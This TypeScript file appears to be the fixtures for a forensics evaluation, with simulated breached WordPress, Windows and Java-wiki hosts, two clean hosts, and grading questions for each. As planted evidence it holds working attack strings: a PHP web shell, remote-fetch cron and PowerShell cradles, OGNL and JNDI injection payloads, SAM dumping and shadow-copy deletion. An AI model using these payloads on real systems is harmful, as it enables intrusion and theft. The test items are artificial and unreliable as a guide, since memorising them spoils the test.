/** Three hosts and two clean ones that were written after the first nine had been mended for. */
import {
  account,
  attacker,
  clean,
  combined,
  entered,
  guessing,
  type Host,
  inTimeline,
  later,
  outbound,
  shell,
  stays,
  syslog,
  tampered,
  visitors,
} from './host.ts';

const blogs = ['/', '/2026/11/news/', '/wp-content/themes/a/style.css', '/contact/'];
export const wordpress: Host = {
  name: 'Ubuntu with WordPress',
  files: {
    'var/log/apache2/access.log':
      visitors('2026-11-12T12:00:00Z', blogs) +
      combined('2026-11-12T12:40:02Z', '203.0.113.91', 'POST /wp-login.php', 302, 20) +
      combined('2026-11-12T12:40:40Z', '203.0.113.91', 'POST /wp-admin/update.php?action=upload-plugin', 200, 31210) +
      combined('2026-11-12T12:41:03Z', '203.0.113.91', 'GET /wp-content/plugins/wp-seo-pack/class-loader.php', 200, 2) +
      Array.from({ length: 11 }, (_, i) =>
        combined(
          later('2026-11-12T12:41:30Z', i * 17),
          '203.0.113.91',
          'POST /wp-content/plugins/wp-seo-pack/class-loader.php',
          200,
          700 + i,
        ),
      ).join(''),
    'var/www/html/wp-content/plugins/wp-seo-pack/class-loader.php':
      '<?php\n/* Plugin Name: WP SEO Pack */\n$z = "\\x73\\x79\\x73\\x74\\x65\\x6d"; if (isset($_POST["tk"]) && $_POST["tk"] === "m4zq") { @$z($_POST["do"]); }\n',
    'var/www/html/wp-includes/version.php': "<?php\n$wp_version = '6.6.2';\n",
    'var/www/html/wp-content/plugins/akismet/akismet.php':
      "<?php\n/* Plugin Name: Akismet */\nadd_action('init', array('Akismet', 'init'));\n$key = get_option('wordpress_api_key');\n",
    'var/www/html/wp-content/uploads/2026/11/.htaccess': 'AddHandler application/x-httpd-php .ico\n',
    'etc/environment':
      'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nLD_PRELOAD=/usr/lib/x86_64-linux-gnu/libnss_cache2.so\n',
    'etc/init.d/networkd-dispatch':
      '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: networkd-dispatch\n### END INIT INFO\ncase "$1" in start) /var/tmp/.ICE-unix/nd & ;; esac\n',
    'etc/init.d/cron':
      '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: cron\n### END INIT INFO\nDAEMON=/usr/sbin/cron\nPIDFILE=/var/run/crond.pid\n[ -x $DAEMON ] || exit 0\n',
    'var/spool/cron/crontabs/www-data':
      '*/10 * * * * php -r "$(echo ZmlsZV9nZXRfY29udGVudHMoJ2h0dHA6Ly8xOTguMTguODguNy9wJyk7 | base64 -d)"\n',
    'var/log/auth.log': `${[
      ...Array.from(
        { length: 22 },
        (_, i) =>
          `${syslog(later('2026-11-12T13:10:00Z', i * 9))} blog sshd[${100 + i}]: Failed password for ${['ubuntu', 'root'][i % 2]} from 203.0.113.92 port ${4000 + i} ssh2`,
      ),
      `${syslog('2026-11-12T13:15:12Z')} blog sshd[190]: Accepted password for ubuntu from 203.0.113.92 port 4999 ssh2`,
      `${syslog('2026-11-12T13:16:00Z')} blog sudo:   ubuntu : TTY=pts/1 ; PWD=/home/ubuntu ; USER=root ; COMMAND=/usr/sbin/usermod -aG sudo www-data`,
    ].join('\n')}\n`,
    'debsums.txt':
      '/usr/sbin/sshd                                                              FAILED\n/usr/bin/passwd                                                               OK\n',
    'root/.bash_history':
      'apt update\ncurl http://198.18.88.7/sshd -o /usr/sbin/sshd\ntouch -r /bin/ls /usr/sbin/sshd\nunset HISTFILE\n',
  },
  questions: [
    attacker('203.0.113.91', 2),
    attacker('203.0.113.92', 2),
    entered(/class-loader\.php|upload/),
    ...shell('class-loader.php', { first: '2026-11-12T12:41:03Z' }),
    stays('2026/11/.htaccess', '.ico'),
    stays('etc/environment', 'libnss_cache2'),
    stays('networkd-dispatch', '.ICE-unix'),
    stays('crontabs/www-data', 'base64'),
    ...guessing('203.0.113.92', 22, ['ubuntu', 'root'], ['ubuntu', '2026-11-12T13:15:12Z']),
    stays('auth.log', 'usermod -aG sudo www-data'),
    tampered('/usr/sbin/sshd'),
    outbound('198.18.88.7'),
  ],
};

const winlog = (iso: string, id: number, provider: string, data: { [name: string]: string }): string =>
  `${JSON.stringify({ '@timestamp': iso, winlog: { event_id: id, provider_name: provider, channel: 'Security', event_data: data }, host: { name: 'TERM01' } })}\n`;
const SECURITY = 'Microsoft-Windows-Security-Auditing';
const PEOPLE = ['anna', 'bernd', 'chen', 'dora', 'emil', 'fay', 'kasse1', 'scanner'];
const cradle = Buffer.from(
  "IEX ((new-object net.webclient).downloadstring('http://198.18.99.4/a'))",
  'utf16le',
).toString('base64');
export const windowsTerminal: Host = {
  name: 'Windows terminal server, events as Winlogbeat ships them',
  files: {
    'winlogbeat.ndjson':
      Array.from({ length: 32 }, (_, i) =>
        winlog(later('2026-11-13T01:00:00Z', i * 20), 4625, SECURITY, {
          TargetUserName: PEOPLE[i % 8]!,
          IpAddress: '203.0.113.64',
          LogonType: '3',
        }),
      ).join('') +
      winlog('2026-11-13T01:12:00Z', 4624, SECURITY, {
        TargetUserName: 'scanner',
        IpAddress: '203.0.113.64',
        LogonType: '10',
      }) +
      winlog('2026-11-13T01:20:00Z', 7045, 'Service Control Manager', {
        ServiceName: 'fb31a0',
        ImagePath: `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand ${cradle}`,
      }) +
      winlog('2026-11-13T01:24:00Z', 4720, SECURITY, {
        TargetUserName: 'defaultuser1',
        TargetSid: 'S-1-5-21-1-2-3-1066',
      }) +
      winlog('2026-11-13T01:24:10Z', 4732, SECURITY, {
        TargetUserName: 'Administrators',
        MemberName: '-',
        MemberSid: 'S-1-5-21-1-2-3-1066',
      }) +
      winlog('2026-11-13T01:40:00Z', 1102, 'Microsoft-Windows-Eventlog', { SubjectUserName: 'scanner' }),
    'Users/scanner/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt':
      'whoami /all\nnetsh interface portproxy add v4tov4 listenport=8443 connectaddress=198.18.99.4 connectport=443\nreg save HKLM\\SAM C:\\Windows\\Temp\\s\nvssadmin delete shadows /all /quiet\n',
    'Users/scanner/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.bat':
      '@echo off\r\ncertutil -urlcache -split -f http://198.18.99.4/u.exe %TEMP%\\u.exe & %TEMP%\\u.exe\r\n',
    'winlogon.reg':
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon]\r\n"Shell"="explorer.exe"\r\n"Userinit"="C:\\\\Windows\\\\system32\\\\userinit.exe,C:\\\\ProgramData\\\\u.exe"\r\n',
  },
  questions: [
    attacker('203.0.113.64'),
    entered(/guessed password of scanner/, '2026-11-13T01:12:00Z'),
    ...guessing('203.0.113.64', 32, PEOPLE, ['scanner', '2026-11-13T01:12:00Z']),
    stays('winlogbeat.ndjson', 'fb31a0'),
    account('defaultuser1'),
    inTimeline(/cleared/, '2026-11-13T01:40:00Z'),
    stays('ConsoleHost_history.txt', 'portproxy'),
    stays('ConsoleHost_history.txt', 'reg save'),
    stays('Startup/update.bat', 'certutil'),
    stays('winlogon.reg', 'u.exe'),
    outbound('198.18.99.4'),
  ],
};

const json = (iso: string, client: string, request: string, status: number, bytes: number): string =>
  `${JSON.stringify({ time: iso, remote_addr: client, request_method: request.split(' ')[0], request_uri: request.split(' ')[1], status, body_bytes_sent: bytes, http_user_agent: 'Mozilla/5.0' })}\n`;
const OGNL =
  '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/';
export const wiki: Host = {
  name: 'Rocky with a wiki in Java',
  files: {
    'var/log/nginx/wiki.json.log':
      Array.from({ length: 90 }, (_, i) =>
        json(
          later('2026-11-11T04:00:00Z', i * 31),
          `198.51.100.${30 + (i % 25)}`,
          `GET /display/ops/page${i % 9}`,
          200,
          4000 + i * 13,
        ),
      ).join('') +
      json('2026-11-11T04:48:19Z', '203.0.113.17', `GET ${OGNL}`, 302, 0) +
      json(
        '2026-11-11T04:48:40Z',
        '203.0.113.17',
        `GET ${OGNL.replace('%22id%22', '%22curl%20198.18.44.2%2Fk.sh%22')}`,
        302,
        0,
      ),
    'var/spool/cron/confluence':
      '* * * * * (curl -fsSL http://198.18.44.2/k.sh||wget -q -O- http://198.18.44.2/k.sh)|bash\n',
    'etc/systemd/system/bot.service':
      '[Unit]\nDescription=bot\n[Service]\nExecStart=/var/atlassian/.local/kinsing\nRestart=always\n[Install]\nWantedBy=default.target\n',
    'etc/systemd/system/confluence.service':
      '[Service]\nType=forking\nUser=confluence\nExecStart=/opt/atlassian/confluence/bin/start-confluence.sh\n',
    'etc/modules-load.d/diag.conf': 'diamorphine\n',
    'etc/modules-load.d/kvm.conf': 'kvm_intel\n',
    'ps.txt':
      'USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nroot           1  0.0  0.1 169000 11000 ?        Ss   Nov01   0:10 /usr/lib/systemd/systemd\nconflue+    9120 380.0 4.1 2440000 330000 ?      Ssl  04:50  99:10 /tmp/kdevtmpfsi\n',
    'ss.txt':
      'State  Recv-Q Send-Q Local Address:Port  Peer Address:Port Process\nESTAB  0      0      10.3.0.7:51022      198.18.44.9:3333 users:(("kdevtmpfsi",pid=9120,fd=7))\n',
    'var/atlassian/.local/config.json':
      '{"pools":[{"url":"198.18.44.9:3333","user":"47ZcnXk1z5oYH4yKUsw5Sh5sDDSSe3oZLzFMVEExampleexampleEXAMPLEexampleEXAMPLEexampleEXAMPLEexampl","pass":"x"}]}',
    'home/confluence/.bash_logout': 'rm -rf ~/.bash_history\n(/var/atlassian/.local/kinsing &)\n',
    'etc/rsyslog.d/99-x.conf': ':msg, contains, "kinsing" ~\n',
    'etc/hosts': '127.0.0.1 localhost\n0.0.0.0 security.example\n10.3.0.7 wiki\n',
  },
  questions: [
    attacker('203.0.113.17'),
    inTimeline(/203\.0\.113\.17/, '2026-11-11T04:48:19Z'),
    entered(/injection|OGNL|attack|203\.0\.113\.17/i),
    stays('cron/confluence', 'k.sh'),
    stays('bot.service', 'kinsing'),
    stays('modules-load.d/diag.conf', 'diamorphine'),
    stays('ps.txt', '/tmp/kdevtmpfsi'),
    stays('.bash_logout', 'kinsing'),
    outbound('198.18.44.2'),
    outbound('198.18.44.9'),
  ],
};

export const cleanGit: Host = {
  name: 'clean: a server for Git and backups',
  files: {
    'var/log/auth.log': `${[
      ...Array.from(
        { length: 9 },
        (_, i) =>
          `${syslog(later('2026-11-19T06:00:00Z', i * 600))} git sshd[${i}]: Accepted publickey for git from 10.0.5.${i} port 5${i} ssh2: ED25519 SHA256:a`,
      ),
      `${syslog('2026-11-19T07:30:00Z')} git sudo:   ops : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/find /srv/backup -mtime +30 -exec rm {} ;`,
      `${syslog('2026-11-19T07:31:00Z')} git sudo:   ops : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/sbin/usermod -aG docker ops`,
    ].join('\n')}\n`,
    'root/.bash_history':
      'chattr +i /etc/resolv.conf\ngitlab-rails runner "puts User.count"\nwget http://10.0.0.9/mirror/node_exporter.tar.gz\ntar czf - /srv/git | nc 10.0.0.9 9000\nopenssl s_client -connect git.shop.example:443 </dev/null | openssl x509 -noout -dates\nsystemctl edit gitlab-runsvdir\n',
    'etc/sudoers.d/ansible': 'ansible ALL=(ALL) NOPASSWD: ALL\n',
    'var/opt/gitlab/.ssh/authorized_keys':
      'command="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-12",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGk anna@laptop\n',
    'etc/letsencrypt/renewal-hooks/deploy/reload.sh': '#!/bin/sh\nsystemctl reload nginx\n',
    'etc/cron.d/mirror':
      '15 4 * * * root wget -q -O /srv/mirror/Packages.gz http://10.0.0.9/debian/Packages.gz && gunzip -kf /srv/mirror/Packages.gz\n',
    'docker-inspect.json': JSON.stringify([
      {
        Name: '/borg',
        Path: '/usr/bin/borgmatic',
        Args: ['--verbosity', '1'],
        Created: '2026-10-01T00:00:00Z',
        HostConfig: { Binds: ['/:/mnt/source:ro', '/srv/repo:/repo'], Privileged: false },
      },
    ]),
    'etc/systemd/system/pm2-deploy.service':
      '[Service]\nType=forking\nUser=deploy\nEnvironment=PATH=/usr/bin:/home/deploy/.nvm/versions/node/v20/bin\nEnvironment=PM2_HOME=/home/deploy/.pm2\nPIDFile=/home/deploy/.pm2/pm2.pid\nExecStart=/usr/lib/node_modules/pm2/bin/pm2 resurrect\n',
    'home/ops/.bashrc':
      'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"\neval "$(direnv hook bash)"\nexport PATH="$HOME/.local/bin:$PATH"\n',
    'etc/profile.d/vte.sh': '[ -n "$BASH_VERSION" ] || return 0\nPROMPT_COMMAND="__vte_prompt_command"\n',
    'srv/www/phpmyadmin/export.php':
      "<?php\n$type = $_POST['export_type'] ?? 'server';\nif (! in_array($type, ['server', 'table'], true)) { exit; }\n$sql = $_POST['sql_query'] ?? '';\n$export->exportServer($type, $sql);\n",
    'suid.txt':
      '-rwsr-xr-x 1 root root 88496 Nov 10 2026 /usr/bin/chfn\n-rwsr-xr-x 1 root root 14000 Nov 10 2026 /opt/google/chrome/chrome-sandbox\n-rwsr-xr-x 1 root root 31000 Nov 10 2026 /usr/lib/dbus-1.0/dbus-daemon-launch-helper\n',
  },
  questions: clean(),
};

const LOOKUP = '$'.concat('{jndi:ldap://198.18.1.1/a}');
export const cleanShop: Host = {
  name: 'clean: a shop that is scanned all day',
  files: {
    'var/log/nginx/access.log':
      visitors('2026-11-20T00:00:00Z', [
        '/',
        '/cart',
        '/search?q=union+jack+shirt',
        '/product/select-one?ref=../../x',
      ]) +
      [
        '/.env',
        '/wp-login.php',
        '/shell.php',
        '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
        `/?x=${LOOKUP}`,
        '/cgi-bin/luci/;stok=/locale',
      ]
        .map((path, i) =>
          combined(later('2026-11-20T00:20:00Z', i), '203.0.113.240', `GET ${path}`, 404, 150, 'zgrab/0.x'),
        )
        .join(''),
    'var/log/app.log': '2026-11-20 00:20:05,001 INFO [http-1] shop.Access - GET /?x='.concat(
      LOOKUP,
      ' 404\n2026-11-20 00:21:05,001 INFO [http-1] shop.Orders - order 17 paid\n',
    ),
    'var/www/shop/index.php':
      "<?php\nrequire 'vendor/autoload.php';\n$page = basename($_GET['page'] ?? 'home');\ninclude __DIR__ . \"/pages/$page.php\";\n",
    'var/www/shop/admin/thumb.php':
      "<?php\n$w = (int) $_GET['w'];\nexec('convert ' . escapeshellarg($file) . ' -resize ' . $w . ' out.jpg');\n",
    'srv/app/server.js':
      "const express = require('express');\nconst { execFile } = require('child_process');\nconst app = express();\napp.post('/pdf', (req, res) => execFile('wkhtmltopdf', [url(req.body.id), '-'], (e, out) => res.send(out)));\n",
    'etc/passwd':
      'root:x:0:0:root:/root:/bin/bash\npostgres:x:112:118::/var/lib/postgresql:/bin/bash\ndeploy:x:1000:1000::/home/deploy:/bin/bash\n',
  },
  questions: clean(['203.0.113.240']),
};
